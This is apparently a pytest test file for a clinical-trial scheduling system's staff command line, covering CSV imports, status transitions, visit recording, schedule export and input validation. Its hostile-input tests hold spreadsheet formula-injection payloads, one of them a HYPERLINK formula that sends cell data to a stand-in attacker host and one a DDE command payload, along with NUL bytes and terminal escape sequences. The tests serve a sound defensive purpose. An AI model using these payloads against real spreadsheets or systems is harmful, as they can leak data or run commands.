"""The staff command line as a contract: what each command does, and how it refuses bad input
(``FILE:LINE: field: message`` or one plain line, exit status 1, never a traceback, nothing
half-saved)."""

import csv
import datetime
import os
import subprocess
import sys
from io import StringIO
from pathlib import Path

import pytest
import time_machine
from django.conf import settings
from django.core.management import call_command

from participants import eligibility
from participants.cli import InputError
from participants.lifecycle import record_transition
from participants.models import Participant, Site, SiteClosure, Status, Transition
from scheduling.models import Visit
from scheduling.timeline.selectors import SCHEDULE_COLUMNS, schedule_rows
from scheduling.timeline.visits import record_visit
from tests.conftest import CLERK
from tests.databases import process_database_url
from tests.factories import enrol, investigator, qualifying_answers

# Every test here may run a command that changes data, which names its user with --by.
pytestmark = pytest.mark.usefixtures("clerk")

D = datetime.date
NOW = datetime.datetime(2026, 3, 12, 5, tzinfo=datetime.UTC)  # Oceanside: still 11 March
BY = ("--by", CLERK)
SITES_HEADER = "code,name,timezone,coordinator_email"
PARTICIPANTS_HEADER = "subject_id,site_code,email,consent_date"


@pytest.fixture(autouse=True)
def clock():
    with time_machine.travel(NOW, tick=False) as traveller:
        yield traveller


@pytest.fixture
def write(tmp_path):
    def write(name: str, *lines: str) -> str:
        path = tmp_path / name
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        return str(path)

    return write


def run(*args) -> str:
    out = StringIO()
    call_command(*args, stdout=out, stderr=StringIO())
    return out.getvalue()


def refused(*args) -> list[str]:
    with pytest.raises(InputError) as excinfo:
        call_command(*args, stdout=StringIO(), stderr=StringIO())
    assert excinfo.value.returncode == 1
    return excinfo.value.lines


# import_sites


@pytest.mark.django_db
def test_import_sites_creates_sites_with_optional_address_and_phone(write):
    path = write(
        "sites.csv",
        f"{SITES_HEADER},address,phone",
        "OCN,Oceanside,America/Los_Angeles,ocn@example.org,1 Beach Road,+1 555 0101",
        "BER,Berlin,Europe/Berlin,ber@example.org,,",
    )
    assert run("import_sites", path, *BY) == "2 site(s) read: 2 created, 0 updated, 0 unchanged.\n"
    ocn = Site.objects.get(code="OCN")
    assert (ocn.timezone, ocn.address, ocn.phone) == (
        "America/Los_Angeles",
        "1 Beach Road",
        "+1 555 0101",
    )
    assert ocn.history.first().history_change_reason == "Imported (command line)"


@pytest.mark.django_db
def test_import_sites_updates_by_code_and_keeps_columns_the_file_does_not_have(write, site_ocn):
    path = write(
        "sites.csv", SITES_HEADER, "OCN,Oceanside Clinic,America/Los_Angeles,new@example.org"
    )
    assert "1 updated" in run("import_sites", path, *BY)
    site_ocn.refresh_from_db()
    assert (site_ocn.name, site_ocn.coordinator_email, site_ocn.address) == (
        "Oceanside Clinic",
        "new@example.org",
        "1 Clinic Road",
    )
    assert "1 unchanged" in run("import_sites", path, *BY)


@pytest.mark.django_db
def test_import_sites_reports_every_bad_row_by_line_and_saves_nothing(write):
    path = write(
        "sites.csv",
        SITES_HEADER,
        "OCN,Oceanside,America/Los_Angeles,ocn@example.org",
        "",
        "BER,Berlin,Europe/Berlinn,not-an-email",
        "OCN,Again,UTC,ocn@example.org",
        "MUC,Munich,Europe/Berlin",
    )
    assert refused("import_sites", path, *BY) == [
        f"{path}:4: timezone: “Europe/Berlinn” is not an IANA time zone such as Europe/Berlin.",
        f"{path}:4: coordinator_email: Enter a valid email address.",
        f"{path}:5: code: OCN appears twice in the file (first on line 2).",
        f"{path}:6: row: has 3 fields; the header has 4.",
    ]
    assert not Site.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("header", "problem"),
    [
        ("code,name,timezone", "missing column coordinator_email"),
        (f"{SITES_HEADER},adress", "unknown column adress"),
        (f"{SITES_HEADER},code", "column code appears twice"),
        ("", "the file is empty"),
    ],
)
def test_import_sites_refuses_a_bad_header_on_line_1(write, header, problem):
    path = write("sites.csv", header)
    assert refused("import_sites", path, *BY) == [
        f"{path}:1: header: {problem}; expected {SITES_HEADER} "
        "(optional: address,phone,open_days,holidays,language)."
    ]


@pytest.mark.django_db
def test_a_missing_file_is_one_plain_line(tmp_path):
    path = tmp_path / "nowhere.csv"
    assert refused("import_sites", str(path), *BY) == [
        f"{path}: file: cannot be read (No such file or directory)."
    ]


# import_participants


@pytest.mark.django_db
def test_import_participants_creates_each_with_its_full_schedule(
    write, protocol, site_ocn, site_ber
):
    path = write(
        "participants.csv",
        PARTICIPANTS_HEADER,
        "SLE-001-101-001,OCN,p1@example.org,2026-01-05",
        "SLE-001-102-001,BER,p2@example.org,2026-03-12",
    )
    assert run("import_participants", path, *BY) == "2 participant(s) created in SLE-001.\n"
    first = Participant.objects.get(subject_id="SLE-001-101-001")
    assert (first.protocol, first.site, first.status) == (protocol, site_ocn, Status.SCREENING)
    assert Visit.objects.filter(participant=first).count() == 14
    assert Visit.objects.filter(participant__subject_id="SLE-001-102-001").count() == 14
    assert set(Transition.objects.values_list("recorded_via", flat=True)) == {"command line"}


@pytest.mark.django_db
def test_import_participants_reports_every_bad_row_and_saves_nothing(
    write, protocol, site_ocn, site_ber, make_participant
):
    make_participant(subject_id="SLE-001-101-009")
    path = write(
        "participants.csv",
        PARTICIPANTS_HEADER,
        "SLE-001-101-001,OCN,p1@example.org,2026-01-05",
        "SLE-001-101-001,OCN,p1@example.org,2026-01-06",
        "SLE-001-101-002,XXX,not-an-email,2026-02-30",
        "SLE-001-101-003,OCN,p3@example.org,2026-03-12",
        "SLE-001-102-003,BER,p3@example.org,2026-03-12",
        "SLE-001-101-009,OCN,p9@example.org,2026-01-05",
        ",OCN,p0@example.org,2026-01-05",
    )
    assert refused("import_participants", path, *BY) == [
        f"{path}:3: subject_id: SLE-001-101-001 appears twice in the file (first on line 2).",
        f"{path}:4: site_code: “XXX” is not a site code.",
        f"{path}:4: email: “not-an-email” is not an email address.",
        f"{path}:4: consent_date: “2026-02-30” is not a date (YYYY-MM-DD).",
        f"{path}:5: consent_date: 2026-03-12 is in the future at site OCN, "
        "where today is 2026-03-11.",
        f"{path}:7: subject_id: SLE-001-101-009 already exists in protocol SLE-001.",
        f"{path}:8: subject_id: is required.",
    ]
    assert list(Participant.objects.values_list("subject_id", flat=True)) == ["SLE-001-101-009"]
    assert Visit.objects.count() == 14
    assert Transition.objects.count() == 1


@pytest.mark.django_db
def test_import_participants_with_one_bad_row_saves_nothing(write, protocol, site_ocn):
    path = write(
        "participants.csv",
        PARTICIPANTS_HEADER,
        *[f"SLE-001-101-{n:03d},OCN,p@example.org,2026-01-05" for n in range(1, 6)],
        "SLE-001-101-006,OCN,p@example.org,05/01/2026",
    )
    assert refused("import_participants", path, *BY) == [
        f"{path}:7: consent_date: “05/01/2026” is not a date (YYYY-MM-DD); it looks like a "
        "date a spreadsheet wrote with the day or month first: format the column as YYYY-MM-DD "
        "before saving."
    ]
    assert (Participant.objects.count(), Visit.objects.count()) == (0, 0)


@pytest.mark.django_db
def test_import_participants_names_an_unknown_protocol_in_one_line(write, site_ocn):
    path = write("participants.csv", PARTICIPANTS_HEADER)
    assert refused("import_participants", path, "--protocol", "NOPE-1", *BY) == [
        "protocol: there is no protocol NOPE-1."
    ]


# transition and record_visit


@pytest.mark.django_db
def test_transition_moves_a_participant_and_records_the_command_line(make_participant):
    participant = make_participant(subject_id="SLE-001-101-004")
    # Enrolment is an investigator's, with every criterion answered as it qualifies.
    eligibility.answer_criteria(participant, qualifying_answers(participant))
    output = run(
        "transition",
        "SLE-001-101-004",
        "enrolled",
        "--on",
        "2026-02-01",
        "--by",
        investigator().username,
    )
    assert output == "SLE-001-101-004: screening → enrolled on 2026-02-01.\n"
    transition = participant.transitions.last()
    assert (transition.to_status, transition.recorded_via) == ("enrolled", "command line")


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("args", "line"),
    [
        (["SLE-001-101-004", "treatment", "--on", "2026-02-01"],
         "target: A participant in screening cannot move to treatment (allowed: enrolled, "
         "screen_failed, withdrawn, lost_to_follow_up). Treatment needs enrolment (eligibility "
         "confirmed) first."),
        (["SLE-001-101-004", "withdrawn", "--on", "2026-02-01"],
         "reason: A reason is required for a withdrawal."),
        (["SLE-001-101-004", "enrolled", "--on", "2026-03-12"],
         "on: 2026-03-12 is in the future at site OCN, where today is 2026-03-11."),
        (["SLE-001-101-004", "enrolled", "--on", "1 Feb"],
         "on: “1 Feb” is not a date (YYYY-MM-DD)."),
        (["SLE-001-999-999", "enrolled", "--on", "2026-02-01"],
         "subject_id: there is no participant SLE-001-999-999."),
        (["SLE-001-101-004", "enrolled"], "the following arguments are required: --on"),
    ],
)  # fmt: skip
def test_transition_refuses_bad_input_in_one_plain_line(make_participant, args, line):
    make_participant(subject_id="SLE-001-101-004")
    assert refused("transition", *args, *BY) == [line]


@pytest.mark.django_db
def test_record_visit_records_the_date_and_flags_a_deviation(make_participant):
    participant = make_participant(subject_id="SLE-001-101-004", consent_date=D(2026, 1, 5))
    output = run("record_visit", "SLE-001-101-004", "SCR", "--on", "2026-01-09", *BY)
    assert output == (
        "SLE-001-101-004 SCR recorded on 2026-01-09. Protocol deviation: outside its window "
        "2026-01-05 … 2026-01-08.\n"
    )
    visit = participant.visits.get(code="SCR")
    assert visit.actual_date == D(2026, 1, 9)
    assert visit.history.first().history_change_reason == "Visit recorded (command line)"


@pytest.mark.django_db
def test_record_visit_names_the_visits_a_participant_has(make_participant):
    make_participant(subject_id="SLE-001-101-004")
    [line] = refused("record_visit", "SLE-001-101-004", "INF9", "--on", "2026-01-09", *BY)
    assert line.startswith("visit_code: SLE-001-101-004 has no visit INF9 (visits: SCR, LEUK, ")


# --by: every command that changes data names the active staff user who makes the change.


def changing_commands(write) -> dict[str, list[str]]:
    """Each command that changes data, with arguments it accepts (--by aside)."""
    return {
        "transition": ["SLE-001-101-004", "enrolled", "--on", "2026-02-01"],
        "record_visit": ["SLE-001-101-004", "SCR", "--on", "2026-01-09"],
        "book_visit": ["SLE-001-101-004", "LEUK", "--clear"],
        "close_site": ["OCN", "--from", "2026-04-01", "--reason", "inspection"],
        "import_sites": [write("sites.csv", SITES_HEADER, "MUC,Munich,UTC,muc@example.org")],
        "import_participants": [
            write("people.csv", PARTICIPANTS_HEADER, "SLE-001-101-005,OCN,p@example.org,2026-01-05")
        ],
    }


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("by", "line"),
    [
        ([], "the following arguments are required: --by"),
        (["--by", "nobody"], "by: there is no user nobody."),
        (["--by", "former"], "by: the user former is inactive."),
        (["--by", "visitor"], "by: the user visitor is not staff."),
        (["--by", "cl\x00erk"], "by: contains a NUL byte (U+0000)."),
    ],
    ids=["left out", "unknown", "inactive", "not staff", "NUL"],
)
def test_a_change_is_refused_unless_by_names_an_active_staff_user(
    write, make_participant, django_user_model, by, line
):
    make_participant(subject_id="SLE-001-101-004")
    django_user_model.objects.create_user("former", is_staff=True, is_active=False)
    django_user_model.objects.create_user("visitor")
    before = (Transition.objects.count(), Site.objects.count(), Participant.objects.count())
    for name, args in changing_commands(write).items():
        assert refused(name, *args, *by) == [line], name
    assert (Transition.objects.count(), Site.objects.count(), Participant.objects.count()) == before
    assert not Visit.objects.filter(actual_date__isnull=False).exists()
    assert not SiteClosure.objects.exists()


@pytest.mark.django_db
def test_by_is_documented_as_required_in_each_commands_help(write, capsys):
    for name in changing_commands(write):
        with pytest.raises(SystemExit):
            call_command(name, "--help")
        usage = capsys.readouterr().out
        assert "--by USERNAME" in usage and "Required: the username of the active staff" in usage


# export_schedule


@pytest.fixture
def two_participants(make_participant, site_ber):
    later = make_participant(
        subject_id="SLE-001-102-001", site=site_ber, consent_date=D(2026, 2, 2)
    )
    first = make_participant(subject_id="SLE-001-101-001", consent_date=D(2026, 1, 5))
    record_visit(first, "SCR", on=D(2026, 1, 6))
    enrol(first, on=D(2026, 2, 1))
    record_transition(first, Status.TREATMENT, on=D(2026, 3, 3))
    return first, later


def csv_rows(text: str) -> list[list[str]]:
    return [line.split(",") for line in text.splitlines()]


@pytest.mark.django_db
def test_export_schedule_writes_every_visit_ordered_by_subject_then_planned_date(two_participants):
    rows = csv_rows(run("export_schedule"))
    assert rows[0] == list(SCHEDULE_COLUMNS)
    assert [(r[0], r[3]) for r in rows[1:4]] == [
        ("SLE-001-101-001", "SCR"),
        ("SLE-001-101-001", "LEUK"),
        ("SLE-001-101-001", "INF1"),
    ]
    assert len(rows) == 1 + 28
    assert rows[15][:4] == ["SLE-001-102-001", "BER", "screening", "SCR"]
    by_visit = {(r[0], r[3]): r for r in rows[1:]}
    assert by_visit[("SLE-001-101-001", "SCR")] == [
        "SLE-001-101-001", "OCN", "screening", "SCR", "Screening: consent and eligibility",
        "2026-01-05", "2026-01-05", "2026-01-08", "-57", "2026-01-06", "completed",
        # Done: no appointment, as on the participant page (issue 20, item 11); no deviation.
        "", "", "", "", "", "", "",
        # No appointment time, so no zone for it; the site's zone (issue 23).
        "", "America/Los_Angeles",
        # The protocol version that planned it (issue 24).
        "1.0",
    ]  # fmt: skip
    assert by_visit[("SLE-001-101-001", "INF1")][5:11] == [
        "2026-03-03", "2026-03-03", "2026-03-03", "1", "", "missed",
    ]  # fmt: skip
    # INF2's window ends 12 March: missed in Berlin's today, still scheduled in Oceanside's.
    assert by_visit[("SLE-001-101-001", "INF2")][7:11] == ["2026-03-12", "8", "", "scheduled"]
    assert by_visit[("SLE-001-102-001", "SCR")][10] == "missed"
    assert by_visit[("SLE-001-102-001", "LEUK")][10] == "scheduled"


@pytest.mark.django_db
def test_export_schedule_for_one_site_to_a_file(two_participants, tmp_path):
    output = tmp_path / "ber.csv"
    assert run("export_schedule", "--site", "BER", "--output", str(output)) == (
        f"14 visit(s) written to {output}.\n"
    )
    rows = csv_rows(output.read_text(encoding="utf-8"))
    assert {r[1] for r in rows[1:]} == {"BER"}
    assert len(rows) == 15


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("args", "line"),
    [
        (["--format", "xlsx"], "format: “xlsx” is not supported; use csv."),
        (["--site", "NOPE"], "site: there is no site NOPE."),
    ],
)
def test_export_schedule_refuses_bad_options_in_one_plain_line(args, line):
    assert refused("export_schedule", *args) == [line]


@pytest.mark.django_db
def test_the_schedule_export_reads_in_one_query_whatever_the_number_of_participants(
    make_participant, site_ber, django_assert_num_queries
):
    for number in range(3):
        make_participant(site=site_ber if number % 2 else None)
    with django_assert_num_queries(1):
        rows = schedule_rows()
    assert len(rows) == 42
    with django_assert_num_queries(1):
        assert len(schedule_rows(site_ber)) == 14


# The contract through a real process: exit status, stderr lines, no traceback.


def manage(*args) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "manage.py", *args],
        cwd=Path(settings.BASE_DIR),
        env={**os.environ, "DATABASE_URL": process_database_url()},
        capture_output=True,
        text=True,
        timeout=60,
    )


# Committed, for the process to see the user --by names: the file's rows are checked after it.
@pytest.mark.django_db(transaction=True)
def test_a_bad_file_exits_1_with_file_line_field_messages_and_no_traceback(write):
    path = write(
        "sites.csv",
        SITES_HEADER,
        "OCN,Oceanside,America/Los_Angeles,ocn@example.org",
        "BER,Berlin,Mars/Olympus,ber@example.org",
        "MUC,Munich,Europe/Berlin,nobody",
    )
    result = manage("import_sites", path, *BY)
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        f"{path}:3: timezone: “Mars/Olympus” is not an IANA time zone such as Europe/Berlin.",
        f"{path}:4: coordinator_email: Enter a valid email address.",
    ]
    assert result.stdout == ""


@pytest.mark.django_db
def test_bad_arguments_exit_1_with_one_plain_line_and_no_traceback():
    missing = manage("transition", "SLE-001-999-999", "enrolled", "--on", "2026-02-01", *BY)
    usage = manage("record_visit", "SLE-001-999-999", *BY)
    assert (missing.returncode, missing.stderr) == (
        1,
        "subject_id: there is no participant SLE-001-999-999.\n",
    )
    assert usage.returncode == 1
    assert usage.stderr == (
        "the following arguments are required: visit_code, --on "
        "(see manage.py record_visit --help)\n"
    )
    assert "Traceback" not in missing.stderr + usage.stderr


@pytest.mark.django_db
def test_export_to_a_reader_that_stops_early_ends_quietly():
    export = subprocess.Popen(
        [sys.executable, "manage.py", "export_schedule"],
        cwd=Path(settings.BASE_DIR),
        env={**os.environ, "DATABASE_URL": process_database_url()},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    export.stdout.close()  # like `export_schedule | head -0`: the reader is gone
    errors = export.stderr.read()
    assert export.wait(timeout=60) == 0
    assert "Traceback" not in errors


# Hostile input (issue 10, section 4): what a careless or hostile file or argument may hold.


@pytest.mark.django_db
@pytest.mark.parametrize("value", ["2026-W06-1", "2026-032", "20260201", "2026-02-01T00:00"])
def test_a_date_option_is_read_only_as_yyyy_mm_dd(make_participant, value):
    make_participant(subject_id="SLE-001-101-004")
    expected = [f"on: “{value}” is not a date (YYYY-MM-DD)."]
    assert refused("transition", "SLE-001-101-004", "enrolled", "--on", value, *BY) == expected
    assert refused("record_visit", "SLE-001-101-004", "SCR", "--on", value, *BY) == expected


@pytest.mark.django_db
def test_an_iso_week_date_in_a_csv_is_not_a_date(write, protocol, site_ocn):
    path = write(
        "participants.csv", PARTICIPANTS_HEADER, "SLE-001-101-001,OCN,p1@example.org,2026-W02-1"
    )
    assert refused("import_participants", path, *BY) == [
        f"{path}:2: consent_date: “2026-W02-1” is not a date (YYYY-MM-DD)."
    ]
    assert not Participant.objects.exists()


@pytest.mark.django_db
def test_an_iso_week_date_exits_1_with_one_plain_line():
    result = manage("transition", "SLE-001-101-004", "enrolled", "--on", "2026-W45-1", *BY)
    assert (result.returncode, result.stderr) == (
        1,
        "on: “2026-W45-1” is not a date (YYYY-MM-DD).\n",
    )


@pytest.mark.django_db
def test_control_characters_in_a_sites_file_are_refused_by_line_and_field(tmp_path):
    path = tmp_path / "sites.csv"
    path.write_text(
        f"{SITES_HEADER},address,phone\n"
        "OCN,Oceanside,America/Los_Angeles,ocn@example.org,,\n"
        "BER,Ber\x00lin,Europe/Berlin,ber@example.org,,\n"
        'MUC,"Munich\nClinic",Europe/Berlin,muc@example.org,,\n'
        "HAM,Hamburg,Europe/Berlin,ham@example.org,1 Hafen\tstraße,+49\x1b[2J\n"
        "FRA,Frankfurt,Mars/Olympus,fra@example.org,,\n",
        encoding="utf-8",
    )
    assert refused("import_sites", str(path), *BY) == [
        f"{path}:3: name: contains a NUL byte (U+0000); a field holds one line of printable text.",
        f"{path}:4: name: contains a line break (U+000A); a field holds one line of printable "
        "text.",
        f"{path}:6: address: contains a tab (U+0009); a field holds one line of printable text.",
        f"{path}:6: phone: contains a control character (U+001B); a field holds one line of "
        "printable text.",
        f"{path}:7: timezone: “Mars/Olympus” is not an IANA time zone such as Europe/Berlin.",
    ]
    assert not Site.objects.exists()


@pytest.mark.django_db
def test_a_nul_byte_in_a_participants_file_is_refused_and_nothing_is_saved(
    tmp_path, protocol, site_ocn
):
    path = tmp_path / "participants.csv"
    path.write_text(
        f"{PARTICIPANTS_HEADER}\n"
        "SLE-001-101-001,OCN,p1@example.org,2026-01-05\n"
        "SLE-001-101-002,OC\x00N,p2@example.org,2026-01-05\n"
        "SLE-001-101-003\x00,OCN,p3@example.org,2026-01-05\n",
        encoding="utf-8",
    )
    assert refused("import_participants", str(path), *BY) == [
        f"{path}:3: site_code: contains a NUL byte (U+0000); a field holds one line of "
        "printable text.",
        f"{path}:4: subject_id: contains a NUL byte (U+0000); a field holds one line of "
        "printable text.",
    ]
    assert (Participant.objects.count(), Visit.objects.count()) == (0, 0)


# Committed, for the process to see the user --by names: the file's rows are checked after it.
@pytest.mark.django_db(transaction=True)
def test_a_nul_byte_exits_1_with_file_line_field_and_no_traceback(tmp_path):
    path = tmp_path / "sites.csv"
    path.write_text(f"{SITES_HEADER}\nOCN,Ocean\x00side,UTC,ocn@example.org\n", encoding="utf-8")
    result = manage("import_sites", str(path), *BY)
    assert (result.returncode, result.stdout) == (1, "")
    assert result.stderr.splitlines() == [
        f"{path}:2: name: contains a NUL byte (U+0000); a field holds one line of printable text."
    ]


@pytest.mark.django_db
def test_import_participants_refuses_a_consent_date_before_1990(write, protocol, site_ocn):
    path = write(
        "participants.csv",
        PARTICIPANTS_HEADER,
        "SLE-001-101-001,OCN,p1@example.org,0001-01-01",
        "SLE-001-101-002,OCN,p2@example.org,1990-01-01",
    )
    assert refused("import_participants", path, *BY) == [
        f"{path}:2: consent_date: 0001-01-01 is before 1990-01-01, the earliest date this "
        "protocol accepts."
    ]
    assert not Participant.objects.exists()


FORMULA = '=HYPERLINK("http://ev.il/?"&B2)'


@pytest.mark.django_db
def test_import_participants_refuses_a_subject_id_a_spreadsheet_would_run(
    write, protocol, site_ocn
):
    path = write(
        "participants.csv",
        PARTICIPANTS_HEADER,
        '"=HYPERLINK(""http://ev.il/?""&B2)",OCN,p1@example.org,2026-01-05',
        "SLE 001 101 002,OCN,p2@example.org,2026-01-05",
        "SLE-001-101-003,OCN,p3@example.org,2026-01-05",
    )
    assert refused("import_participants", path, *BY) == [
        f"{path}:2: subject_id: “{FORMULA}” is not a subject id: use letters, digits, “-”, "
        "“_” and “.”, beginning with a letter or digit.",
        f"{path}:3: subject_id: “SLE 001 101 002” is not a subject id: use letters, digits, "
        "“-”, “_” and “.”, beginning with a letter or digit.",
    ]
    assert not Participant.objects.exists()


def exported_formulas(make_participant) -> Participant:
    """A participant whose subject id and visit names were stored before they were checked."""
    participant = make_participant(consent_date=D(2026, 1, 5))
    Participant.objects.filter(pk=participant.pk).update(subject_id=FORMULA)
    participant.visits.filter(code="SCR").update(name="@SUM(A1:A9)")
    participant.visits.filter(code="LEUK").update(name="+1+cmd|' /C calc'!A0")
    participant.visits.filter(code="INF1").update(name="-2+3")
    participant.visits.filter(code="INF2").update(name="\t=1+1")
    return participant


def check_formulas_exported_as_text(text: str) -> None:
    rows = {row[3]: row for row in csv.reader(StringIO(text)) if row[0] != "subject_id"}
    assert {row[0] for row in rows.values()} == {"'" + FORMULA}
    assert [rows[code][4] for code in ("SCR", "LEUK", "INF1", "INF2")] == [
        "'@SUM(A1:A9)",
        "'+1+cmd|' /C calc'!A0",
        "'-2+3",
        "'\t=1+1",
    ]
    # Numbers and dates stay as they are.
    assert rows["SCR"][5:9] == ["2026-01-05", "2026-01-05", "2026-01-08", "-56"]


@pytest.mark.django_db
def test_export_schedule_writes_cells_a_spreadsheet_would_run_as_text(make_participant):
    exported_formulas(make_participant)
    check_formulas_exported_as_text(run("export_schedule"))


@pytest.mark.django_db(transaction=True)
def test_export_schedule_writes_formulas_as_text_through_a_real_process(make_participant):
    exported_formulas(make_participant)
    result = manage("export_schedule")
    assert (result.returncode, result.stderr) == (0, "")
    check_formulas_exported_as_text(result.stdout)


# Large files (security issue 21 item 7): read, checked and saved a chunk of rows at a time,
# the refusal bounded.


@pytest.mark.django_db
def test_a_file_refused_on_every_row_lists_the_first_100_errors_then_a_count(write, site_ocn):
    rows = [f"SLE-001-9{n:05d},NOPE,p{n}@example.org,2026-01-05" for n in range(2_500)]
    path = write("people.csv", PARTICIPANTS_HEADER, *rows)
    lines = refused("import_participants", path, *BY)
    assert len(lines) == 101
    assert lines[0] == f"{path}:2: site_code: “NOPE” is not a site code."
    assert lines[99] == f"{path}:101: site_code: “NOPE” is not a site code."
    assert (
        lines[100] == f"{path}: 2,400 more error(s) not listed (2,500 in all); nothing was saved."
    )
    assert not Participant.objects.exists()


@pytest.mark.django_db
def test_a_file_longer_than_a_chunk_is_saved_whole_or_not_at_all(write, site_ocn, monkeypatch):
    import participants.csv_input

    monkeypatch.setattr(participants.csv_input, "CHUNK_ROWS", 2)
    good = [f"SLE-001-101-{n:03d},OCN,p{n}@example.org,2026-01-05" for n in range(1, 6)]
    assert run("import_participants", write("good.csv", PARTICIPANTS_HEADER, *good), *BY) == (
        "5 participant(s) created in SLE-001.\n"
    )
    assert Participant.objects.count() == 5
    # A subject id repeated three chunks further on is named with its first line; the last
    # row's error (a chunk of its own) is found too, and nothing of the file is saved.
    rows = [
        "SLE-001-101-100,OCN,a@example.org,2026-01-05",
        "SLE-001-101-101,OCN,b@example.org,2026-01-05",
        "SLE-001-101-102,OCN,c@example.org,2026-01-05",
        "SLE-001-101-103,OCN,d@example.org,2026-01-05",
        "SLE-001-101-104,OCN,e@example.org,2026-01-05",
        "SLE-001-101-100,OCN,f@example.org,2026-01-05",
        "SLE-001-101-105,OCN,not-an-address,2026-01-05",
    ]
    path = write("bad.csv", PARTICIPANTS_HEADER, *rows)
    assert refused("import_participants", path, *BY) == [
        f"{path}:7: subject_id: SLE-001-101-100 appears twice in the file (first on line 2).",
        f"{path}:8: email: “not-an-address” is not an email address.",
    ]
    assert Participant.objects.count() == 5
